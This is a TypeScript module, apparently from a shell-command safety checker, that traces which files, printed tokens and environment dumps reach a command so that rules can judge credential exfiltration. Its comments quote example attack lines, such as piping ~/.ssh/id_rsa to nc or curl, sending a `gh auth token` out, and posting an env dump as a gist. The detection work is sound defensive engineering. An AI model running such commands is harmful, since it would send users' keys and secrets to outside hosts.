import type { Cmd, Script, Unit, Word } from "./ir.js";
import { literalWord } from "./ir.js";
import { commandName } from "./downloads.js";
import { listsEnvironment } from "./declaration-options.js";
import { wrappedCommand } from "./evaluate-context.js";
import { stdinFile } from "./evaluate-input.js";
import { findActions, findStartPaths, keyFilesFound } from "./find-files.js";
import { classifyWord, fallbackClass, type PathContext } from "./paths.js";
import { isPrinted, printedCredential, type PrintedWord } from "./printed-credentials.js";
import { CREDENTIALS } from "./rules.js";
import { namesSecretsFile } from "./secret-files.js";

/**
 * Which files' contents reach a command, so that a rule can judge where they go
 * (`cat ~/.ssh/id_rsa | nc host 4444` sends the key as `curl -d @~/.ssh/id_rsa` does). What a
 * command that prints a credential prints is among them (`gh auth token | nc …`; a
 * {@link PrintedWord}), as a dump of the environment is ({@link ENVIRONMENT}).
 */
export interface ContentsFed {
  /** Files read by the stages before it in its pipeline, or opened on its standard input (`< F`, `<<< "$(cat F)"`). */
  stdin: Word[];
  /** Files read by command substitutions in its arguments (`curl "…?k=$(cat F)"`); a printed credential knows the argument it is in. */
  arguments: (Word | PrintedWord)[];
}

/** Commands that print their arguments, not the contents of files they name: only substitutions in them pass contents on. */
const PRINT_ARGUMENTS = new Set(["echo", "printf", "print"]);

/** Commands whose output tells about files (names, sizes, digests, counts) without their contents: what they read goes no further. */
const SUMMARIES = new Set([
  "ls", "stat", "wc", "du", "file", "test", "[", "realpath", "readlink", "basename", "dirname", "ssh-keygen",
  "md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "b2sum", "cksum", "sum", "shasum", "md5",
]);

export function contentsFed(args: readonly Word[], cmd: Cmd, upstream: readonly Cmd[]): ContentsFed {
  const stdin = [...pipelineFiles(upstream), ...openedOnStdin(cmd)];
  return { stdin, arguments: args.flatMap((arg) => substitutionFiles(arg).map((w) => (isPrinted(w) ? { ...w, from: arg } : w))) };
}

/** Files whose contents come out of the last stage of a pipeline, followed back while each stage passes its input on. */
function pipelineFiles(stages: readonly Cmd[]): Word[] {
  const out: Word[] = [];
  for (let i = stages.length - 1; i >= 0; i--) {
    const stage = stages[i];
    if (!stage) break;
    const { words } = unwrap(stage.argv);
    const name = words[0] && !words[0].dynamic ? commandName(words[0].text, false) : "";
    if (SUMMARIES.has(name)) break;
    if (stage.listsEnvironment || dumpsEnvironment(stage.argv)) out.push(ENVIRONMENT);
    const printed = name ? printedCredential(name, words.slice(1)) : undefined;
    if (printed) out.push(printed);
    if (name === "find") out.push(...foundFilesPrinted(words.slice(1), stages[i + 1]));
    out.push(...openedOnStdin(stage), ...words.slice(1).flatMap(substitutionFiles));
    if (!PRINT_ARGUMENTS.has(name)) out.push(...words.slice(1).filter((w) => !w.dynamic && !w.text.startsWith("-")));
  }
  return out;
}

/** Commands that print the contents of the files they are given: as they are, in part, encoded or in hex. */
const PRINTS_FILES = new Set(["cat", "tac", "head", "tail", "nl", "base64", "base32", "basenc", "xxd", "od", "hexdump", "strings"]);

/**
 * The files whose contents `find` prints: where a command it runs on them prints them (`-exec cat
 * {} \;`, `-execdir base64 {} +`, behind wrappers: `-exec sudo cat {} +`), or `next`, the stage
 * after it, is xargs running such a command on the names (`find … -print0 | xargs -0 cat`). For each
 * starting point, the key files its name filter picks (`find / -name '*.key'`: `/…/*.key`, see
 * `find-files.ts`), or else the starting point, which stands for the files under it (`~/.ssh`).
 * None where find prints only names.
 */
function foundFilesPrinted(findArgs: readonly Word[], next: Cmd | undefined): Word[] {
  const prints = (argv: readonly Word[]): boolean => {
    const first = unwrap(argv).words[0];
    return first !== undefined && !first.dynamic && PRINTS_FILES.has(commandName(first.text, false));
  };
  const byXargs = next !== undefined && unwrap(next.argv).wrappers.some((w) => w.name === "xargs") && prints(next.argv);
  const byExec = findActions(findArgs).some((inner) => prints(inner) && inner.some((w) => !w.dynamic && w.text.includes("{}")));
  if (!byXargs && !byExec) return [];
  return findStartPaths(findArgs).map((start) => keyFilesFound(start, findArgs) ?? start);
}

/** The file a command's standard input is opened on (with what the line wrote to it), and files read by a here-string's substitutions. */
function openedOnStdin(cmd: Cmd): Word[] {
  const file = stdinFile(cmd);
  // A file the line wrote a credential to holds what wrote it (`Word.held`, see `credential-files.ts`).
  return [...(file && !file.processSub ? [file, ...(file.held ?? []).flatMap(scriptFiles)] : []), ...(file?.processSub ? substitutionFiles(file) : []), ...(cmd.stdinText ? substitutionFiles(cmd.stdinText) : [])];
}

/** Files read by a word's substitutions, and by the scripts whose output a variable in it holds (`Word.held`). */
function substitutionFiles(word: Word): Word[] {
  return [...word.subs, ...(word.held ?? [])].flatMap(scriptFiles);
}

/**
 * What a file the line wrote a credential to holds (`Word.held` on a word naming it, see
 * `credential-files.ts`): the files, dumps of the environment and printed credentials the scripts
 * that wrote it read, so a rule judging the file judges its contents (`env > /tmp/e; gh gist create /tmp/e`).
 */
export function heldContents(word: Word): Word[] {
  return (word.held ?? []).flatMap(scriptFiles);
}

function scriptFiles(script: Script): Word[] {
  return script.units.flatMap((unit) => (unit.kind === "pipeline" ? pipelineFiles(unit.stages) : []));
}

/**
 * Whether what a script writes holds a credential: a key file's contents, what a command that prints
 * one prints, a project's `.env`, a dump of the environment (what the credential rules judge, public
 * keys too, which they leave). A variable assigned it carries the script to each use (`evaluate.ts`).
 */
export function writesCredentials(script: Script, paths: PathContext): boolean {
  return scriptFiles(script).some((w) => {
    if (isPrinted(w) || namesSecretsFile(w)) return true;
    const cls = classifyWord(w, paths);
    const fallback = fallbackClass(cls);
    return CREDENTIALS[cls] !== undefined || (fallback !== undefined && CREDENTIALS[fallback] !== undefined);
  });
}

/**
 * What a variable assigned `value` holds the output of: the scripts of the value's substitutions,
 * and the scripts that variables used in it (also inside those substitutions) hold, as `held` has
 * them, where `follow` takes them (`f="$e"`, `b=$(echo "$k" | base64)` after `k=$(cat ~/.ssh/id_rsa)`;
 * `k="$OPENAI_API_KEY"`, where `held` gives a secret's variable the line does not assign its `printenv`).
 * Each unit is kept once, so values built from one another do not grow.
 */
export function valueSource(value: Word, held: (name: string) => Script | undefined, follow: (source: Script) => boolean): Script {
  const units = new Set<Unit>(value.subs.flatMap((s) => s.units));
  for (const name of usedNames(value)) {
    const source = held(name);
    if (source && follow(source)) for (const u of source.units) units.add(u);
  }
  return { units: [...units] };
}

/** The variables a word uses, in its own text and in the commands of its substitutions. */
export function usedNames(word: Word, names = new Set<string>(), seen = new Set<Script>()): Set<string> {
  for (const name of word.vars ?? []) if (name !== null) names.add(name);
  for (const script of word.subs) {
    if (seen.has(script)) continue;
    seen.add(script);
    for (const unit of script.units) {
      const words = unit.kind === "pipeline" ? unit.stages.flatMap((c) => [...c.argv, ...c.redirects.map((r) => r.target), ...(c.stdinText ? [c.stdinText] : [])]) : unit.kind === "expand" ? unit.words : unit.kind === "assign" && unit.value ? [unit.value] : [];
      for (const w of words) usedNames(w, names, seen);
    }
  }
  return names;
}

/** A chain of wrappers walked: the command it runs, and each wrapper's name and own words (options, assignments), outermost first. */
interface Unwrapped {
  words: readonly Word[];
  wrappers: { name: string; own: readonly Word[] }[];
}

/**
 * Walks a chain of wrappers to the command it runs (`sudo -u bob env A=1 cat F` runs `cat F`), each
 * wrapper's options read as it reads them ({@link wrappedCommand}): `bob` is sudo's user, not the command.
 */
function unwrap(argv: readonly Word[]): Unwrapped {
  let words = argv;
  const wrappers: Unwrapped["wrappers"] = [];
  for (;;) {
    const first = words[0];
    if (!first || first.dynamic) return { words, wrappers };
    const name = commandName(first.text, false);
    const args = words.slice(1);
    const rest = wrappedCommand(name, args);
    if (rest === undefined) return { words, wrappers };
    wrappers.push({ name, own: args.slice(0, args.length - rest.length) });
    words = rest;
  }
}

/** What a dump of the environment prints, as the file that holds the same variables (the `environ` path class). */
export const ENVIRONMENT: Word = literalWord("/proc/self/environ");

/**
 * Whether a command prints every variable of its environment, API keys and tokens among them:
 * `env` running no command (not `env -i`, which empties it), `printenv` naming no variable, bare
 * `set`, and `export -p` or `declare -x` run as commands (`builtin export -p`; the parser marks the
 * declarations themselves, `Cmd.listsEnvironment`); also behind wrappers (`sudo env`).
 */
function dumpsEnvironment(argv: readonly Word[]): boolean {
  const { words, wrappers } = unwrap(argv);
  // `env -i` (or `env -`) empties the environment of what it runs.
  if (wrappers.some((w) => w.name === "env" && w.own.some((o) => !o.dynamic && (o.text === "-" || /^-[^-]*i/.test(o.text) || (o.text.length > 3 && "--ignore-environment".startsWith(o.text)))))) return false;
  const first = words[0];
  // `env` running no command prints its environment.
  if (!first) return wrappers.at(-1)?.name === "env";
  const args = words.slice(1);
  if (first.dynamic || args.some((w) => w.dynamic)) return false;
  const texts = args.map((w) => w.text);
  const name = commandName(first.text, false);
  switch (name) {
    case "printenv":
      return texts.every((t) => t === "-0" || t === "--null");
    case "export": case "declare": case "typeset":
      return listsEnvironment(name, texts);
    case "set":
      return texts.length === 0;
    default:
      return false;
  }
}
